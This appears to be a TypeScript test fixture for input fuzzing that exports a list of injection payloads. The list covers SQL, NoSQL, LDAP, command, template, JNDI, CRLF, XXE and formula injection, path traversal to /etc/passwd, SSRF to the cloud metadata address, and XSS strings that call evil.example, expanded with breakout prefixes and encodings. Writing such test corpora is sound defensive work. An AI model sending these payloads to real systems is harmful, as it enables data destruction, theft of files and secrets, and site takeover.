// Strings that some interpreter would execute: what scanners put into every field.

const orders = [
  ...[
    "' OR '1'='1",
    '" OR ""="',
    "1' OR 1=1 --",
    "'; DROP TABLE users; --",
    "') UNION SELECT 1,2 --",
  ],
  ...['1 AND SLEEP(5)', "'||pg_sleep(5)--", "'; WAITFOR DELAY '0:0:5' --", '1;SELECT @@version'],
  ...["'; return true; var a='", '{"$where":"sleep(5000)"}', '{$gt:""}', "'||this.role||'", '$ne'],
  ...['*)(uid=*))(|(uid=*', '*)(&', "' or name()='x' or '", '<!--#exec cmd="id"-->'],
  ...['; id', '| id', '|| id', '& id', '&& id', '`id`', '$(id)', '\n/bin/id\n', '; ping -c 5 ::1'],
  ...[
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{{constructor.constructor("x")()}}',
    '[[${7*7}]]',
  ],
  ...['${jndi:ldap://evil.example/a}', '${env:SESSION_SECRET}', '%{(#_="x")}', '@(1+1)'],
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '=cmd|" /c calc"!A1',
    '=HYPERLINK("https://evil.example")',
  ],
  ...['../../etc/passwd', '..\\..\\win.ini', 'file:///etc/passwd', 'php://filter/resource=x'],
  ...['http://127.0.0.1:27017/', 'http://169.254.169.254/latest/', 'gopher://127.0.0.1:25/_x'],
  ...[
    'x\r\nBcc: evil@evil.example',
    'x\r\n\r\n<script>',
    'x%0d%0aSet-Cookie:a=b',
    'x\nTo: a@b.example',
  ],
  ...['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', '<?xml version="1.0"?><a/>'],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'null', 'undefined'],
  ...['NaN', 'Infinity', '0x7fffffff', '1e309', '-0', '9007199254740993', '00', '١٢٣'],
];

const scripts = [
  ...['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
  ...['<iframe src=javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>', '<body onload=x>'],
  ...['<math><a xlink:href=javascript:alert(1)>', '<style>@import"//evil.example"</style>'],
  ...['<base href=//evil.example/>', '<form action=//evil.example><input>', '<object data=x>'],
  ...['<meta http-equiv=refresh content=0;url=//evil.example>', '<template><script>', '<!--'],
];
/** Prefixes that break out of a surrounding context. */
const exits = ['', '">', "'>", '</title>', '</textarea>', '--><', ']]>', '\\";', '\u0000'];

export const attackStrings: readonly string[] = [
  ...new Set([
    ...orders,
    ...scripts.flatMap((script) => exits.map((exit) => exit + script)),
    ...scripts.map((script) => script.toUpperCase()),
    ...scripts.map((script) => encodeURIComponent(script)),
    ...scripts.map((script) => script.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E')),
  ]),
];
